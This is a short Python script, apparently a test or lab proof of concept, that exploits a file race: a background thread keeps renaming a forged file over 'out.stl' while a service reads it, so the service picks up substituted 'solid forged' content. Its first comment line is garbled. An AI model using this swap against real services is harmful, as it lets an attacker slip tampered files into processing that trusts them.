# ?0? died
# while the service reads, a thread puts something else in the file's place
import os
import threading


def swap():
    while True:
        try:
            os.rename("other", "out.stl")
            open("other", "wb").write(b"solid forged")
        except OSError:
            pass


open("other", "wb").write(b"solid forged")
threading.Thread(target=swap, daemon=True).start()
